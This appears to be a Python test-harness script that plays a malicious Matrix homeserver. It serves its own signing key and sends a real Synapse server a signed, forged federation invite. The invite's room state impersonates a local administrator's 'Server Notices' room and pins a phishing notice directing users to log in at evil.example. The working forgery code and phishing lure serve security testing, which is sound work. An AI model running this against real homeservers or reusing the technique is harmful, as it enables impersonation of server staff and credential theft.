#!/usr/bin/env python3
"""A scripted malicious Matrix homeserver that sends one forged invite over federation.

This is a mock on purpose: a stock Synapse refuses to invite a user of another server
into a room whose m.federate is false ("This room has been marked as unfederatable"),
and it writes the invite's stripped state (invite_room_state) from the room's real
state.  A malicious server does neither, so the only way to show what such a server
can send is to be one.  What it sends is what a real, modified server could send; the
receiving Synapse is real and checks all it checks (signatures, sender's server).

Run inside the Synapse chroot (python3 with signedjson, canonicaljson and nacl, which
Synapse depends on) by `synapse-harness malicious-invite`, not by hand.  It:
  1. serves its own signing key at https://127.0.0.1:PORT/_matrix/key/v2/server (the
     server name is 127.0.0.1:PORT, or localhost:PORT with --server-host localhost: the
     target's own host name with another port; either way no well-known or SRV);
  2. sends the target PUT /_matrix/federation/v2/invite/{roomId}/{eventId} with an invite
     from @INVITER:HOST:PORT, signed with that key, whose invite_room_state forges a
     notice room: an m.room.create "sent" by a local administrator of the target, of a
     notice room type, with m.federate false, named "Server Notices", with a pinned
     usage-limit notice;
  3. prints KEY=VALUE lines (SERVER_NAME, INVITER, ROOM_ID, EVENT_ID, PINNED_EVENT_ID,
     ROOM_VERSION) and exits.  A later reject of the invite cannot reach this server
     any more, and Synapse then rejects it locally, as it does for any dead server.
"""
import argparse
import base64
import copy
import hashlib
import http.client
import json
import secrets
import ssl
import sys
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import canonicaljson
import signedjson.key
import signedjson.sign


def log(message):
    print("malicious-server: " + message, file=sys.stderr, flush=True)


def unpadded_b64(data, urlsafe=False):
    encoded = base64.urlsafe_b64encode(data) if urlsafe else base64.b64encode(data)
    return encoded.decode("ascii").rstrip("=")


def random_event_id():
    return "$" + unpadded_b64(secrets.token_bytes(32), urlsafe=True)


def version_number(room_version):
    try:
        return int(room_version)
    except ValueError:
        return 0


# --- events: the spec's redaction, hashing and event-ID rules (room versions 4 and later) ---

def redact(event, room_version):
    """The redacted form of an event, which is what servers sign and hash for its ID."""
    v = version_number(room_version)
    keep = {"event_id", "type", "room_id", "sender", "state_key", "content", "hashes",
            "signatures", "depth", "prev_events", "auth_events", "origin_server_ts"}
    if v <= 10:
        keep |= {"origin", "membership", "prev_state"}
    redacted = {k: copy.deepcopy(val) for k, val in event.items() if k in keep}
    content = event.get("content", {})
    kind = event.get("type")
    if kind == "m.room.member":
        kept = {"membership"}
        if v >= 9:
            kept.add("join_authorised_via_users_server")
        redacted["content"] = {k: val for k, val in content.items() if k in kept}
    elif kind == "m.room.create":
        redacted["content"] = copy.deepcopy(content) if v >= 11 else {
            k: val for k, val in content.items() if k == "creator"}
    else:
        redacted["content"] = {}
    return redacted


def add_content_hash(event):
    body = {k: val for k, val in event.items() if k not in ("unsigned", "signatures", "hashes")}
    digest = hashlib.sha256(canonicaljson.encode_canonical_json(body)).digest()
    event["hashes"] = {"sha256": unpadded_b64(digest)}


def reference_hash(event, room_version):
    body = redact(event, room_version)
    for key in ("signatures", "unsigned", "age_ts"):
        body.pop(key, None)
    return hashlib.sha256(canonicaljson.encode_canonical_json(body)).digest()


def event_id_of(event, room_version):
    return "$" + unpadded_b64(reference_hash(event, room_version), urlsafe=True)


def sign_event(event, room_version, server_name, key):
    signed = signedjson.sign.sign_json(redact(event, room_version), server_name, key)
    event["signatures"] = signed["signatures"]


# --- the key server ---

class KeyServer(ThreadingHTTPServer):
    daemon_threads = True


def make_handler(server_name, key, requests_seen):
    verify_key = signedjson.key.get_verify_key(key)

    class Handler(BaseHTTPRequestHandler):
        def _answer(self, code, body):
            data = json.dumps(body).encode("utf-8")
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):
            requests_seen.append(self.path)
            path = urllib.parse.urlsplit(self.path).path
            if path.startswith("/_matrix/key/v2/server"):
                keys = {
                    "server_name": server_name,
                    "valid_until_ts": int(time.time() * 1000) + 24 * 3600 * 1000,
                    "verify_keys": {"ed25519:" + key.version: {
                        "key": signedjson.key.encode_verify_key_base64(verify_key)}},
                    "old_verify_keys": {},
                }
                self._answer(200, signedjson.sign.sign_json(keys, server_name, key))
            elif path == "/_matrix/federation/v1/version":
                self._answer(200, {"server": {"name": "malicious-server.py", "version": "0"}})
            else:
                self._answer(404, {"errcode": "M_UNRECOGNIZED", "error": "Unrecognized request"})

        def log_message(self, fmt, *args):
            log("served " + (fmt % args))

    return Handler


# --- the forged invite ---

def forged_room(args, server_name, key):
    """Room ID, stripped state and the pinned event's ID of the room the invite claims."""
    v = version_number(args.room_version)
    now = int(time.time() * 1000)
    claimed = args.claimed_sender
    create_content = {"room_version": args.room_version, "type": args.room_type, "m.federate": False}
    if v <= 10:
        create_content["creator"] = claimed  # where the key exists, a consistent lie
    create = {"type": "m.room.create", "state_key": "", "sender": claimed, "content": create_content}
    if v >= 12:
        # The room ID is the create event's reference hash: build a full (unsigned by the
        # claimed sender's server, which this server cannot do) create event and derive it.
        create.update({"origin_server_ts": now - 60000, "depth": 1, "prev_events": [], "auth_events": []})
        add_content_hash(create)
        sign_event(create, args.room_version, server_name, key)
        room_id = "!" + unpadded_b64(reference_hash(create, args.room_version), urlsafe=True)
    else:
        domain = args.room_id_domain or server_name
        room_id = "!" + unpadded_b64(secrets.token_bytes(12), urlsafe=True) + ":" + domain
    pinned_id = random_event_id()

    def state(kind, content, state_key="", sender=claimed):
        return {"type": kind, "state_key": state_key, "sender": sender, "content": content}

    stripped = [
        create,
        state("m.room.join_rules", {"join_rule": "invite"}),
        state("m.room.name", {"name": args.name}),
        state("m.room.topic", {"topic": "Messages from the administrators of your server"}),
        state("m.room.power_levels", {"users": {claimed: 100}, "users_default": 0, "events_default": 100,
                                      "state_default": 100, "invite": 100, "kick": 100, "ban": 100,
                                      "redact": 100}),
        state("org.matrix.msc4279.leave_rules", {"leave_rule": "deny"}),
        state("m.room.member", {"membership": "join", "displayname": "Server Notices"}, claimed),
        state("m.room.pinned_events", {"pinned": [pinned_id]}),
        # Not state at all, but nothing stops a server from putting it here: the pinned
        # usage-limit notice itself, for a client that looks up pins in what it has.
        {"type": "m.room.message", "event_id": pinned_id, "sender": claimed, "room_id": room_id,
         "origin_server_ts": now - 30000,
         "content": {"msgtype": "m.server_notice", "body": "Your account is limited. Log in at evil.example.",
                     "server_notice_type": "m.server_notice.usage_limit_reached",
                     "limit_type": "monthly_active_user", "admin_contact": "https://evil.example/login"}},
    ]
    if args.forge_invite_member:
        # A second "invite" for the user that names the local administrator as inviter; the
        # real invite event (from this server's user) is appended by the user's server.
        stripped.append(state("m.room.member", {"membership": "invite", "displayname": "alice"},
                              args.invitee, claimed))
    return room_id, stripped, pinned_id


def invite_event(args, server_name, inviter, room_id, key):
    event = {
        "type": "m.room.member",
        "state_key": args.invitee,
        "sender": inviter,
        "room_id": room_id,
        "content": {"membership": "invite", "displayname": args.invitee.split(":")[0].lstrip("@")},
        "origin_server_ts": int(time.time() * 1000),
        "depth": 12,
        # Events the target has never seen and cannot fetch: an invite is stored as an
        # outlier, without checking its place in the room's graph.
        "prev_events": [random_event_id()],
        "auth_events": [random_event_id(), random_event_id(), random_event_id()],
    }
    if version_number(args.room_version) <= 10:
        event["origin"] = server_name
    add_content_hash(event)
    sign_event(event, args.room_version, server_name, key)
    return event, event_id_of(event, args.room_version)


def federation_put(args, server_name, key, path, body):
    request = {"method": "PUT", "uri": path, "origin": server_name,
               "destination": args.target_name, "content": body}
    signature = signedjson.sign.sign_json(request, server_name, key)["signatures"][server_name]
    key_id = "ed25519:" + key.version
    authorization = 'X-Matrix origin="%s",destination="%s",key="%s",sig="%s"' % (
        server_name, args.target_name, key_id, signature[key_id])
    target = urllib.parse.urlsplit(args.target_url)
    context = ssl.create_default_context(cafile=args.ca) if args.ca else ssl._create_unverified_context()
    connection = http.client.HTTPSConnection(target.hostname, target.port, context=context, timeout=60)
    data = canonicaljson.encode_canonical_json(body)
    connection.request("PUT", path, body=data, headers={
        "Authorization": authorization, "Content-Type": "application/json"})
    response = connection.getresponse()
    return response.status, response.read().decode("utf-8", "replace")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--port", type=int, required=True, help="TLS port; the server name is HOST:PORT")
    parser.add_argument("--server-host", choices=["127.0.0.1", "localhost"], default="127.0.0.1",
                        help="HOST of the server name; localhost: the target's own host, another port")
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--ca", help="CA file to check the target's certificate with")
    parser.add_argument("--target-url", required=True, help="the target's federation base URL (https://...)")
    parser.add_argument("--target-name", required=True, help="the target's server name")
    parser.add_argument("--invitee", required=True, help="user on the target to invite")
    parser.add_argument("--claimed-sender", required=True, help="local admin of the target the room claims")
    parser.add_argument("--inviter-localpart", default="admin")
    parser.add_argument("--room-version", default="11")
    parser.add_argument("--room-type", default="m.server_notice")
    parser.add_argument("--name", default="Server Notices")
    parser.add_argument("--room-id-domain", help="domain of the room ID (versions 1-11); default: ours")
    parser.add_argument("--forge-invite-member", action="store_true",
                        help="also put an invite 'from' the claimed sender into the stripped state")
    args = parser.parse_args()

    server_name = "%s:%d" % (args.server_host, args.port)
    key = signedjson.key.generate_signing_key("mal%04x" % secrets.randbelow(0x10000))
    requests_seen = []
    httpd = KeyServer(("127.0.0.1", args.port), make_handler(server_name, key, requests_seen))
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(args.cert, args.key)
    httpd.socket = tls.wrap_socket(httpd.socket, server_side=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    log("serving keys as %s" % server_name)

    inviter = "@%s:%s" % (args.inviter_localpart, server_name)
    room_id, stripped, pinned_id = forged_room(args, server_name, key)
    event, event_id = invite_event(args, server_name, inviter, room_id, key)
    path = "/_matrix/federation/v2/invite/%s/%s" % (urllib.parse.quote(room_id, safe=""),
                                                     urllib.parse.quote(event_id, safe=""))
    body = {"room_version": args.room_version, "event": event, "invite_room_state": stripped}
    status, answer = federation_put(args, server_name, key, path, body)
    httpd.shutdown()
    log("PUT invite: HTTP %d %s (the target fetched: %s)" % (status, answer[:300], ", ".join(requests_seen)))
    print("SERVER_NAME=" + server_name)
    print("INVITER=" + inviter)
    print("ROOM_ID=" + room_id)
    print("EVENT_ID=" + event_id)
    print("PINNED_EVENT_ID=" + pinned_id)
    print("ROOM_VERSION=" + args.room_version)
    print("HTTP_STATUS=%d" % status)
    return 0 if status == 200 else 1


if __name__ == "__main__":
    sys.exit(main())
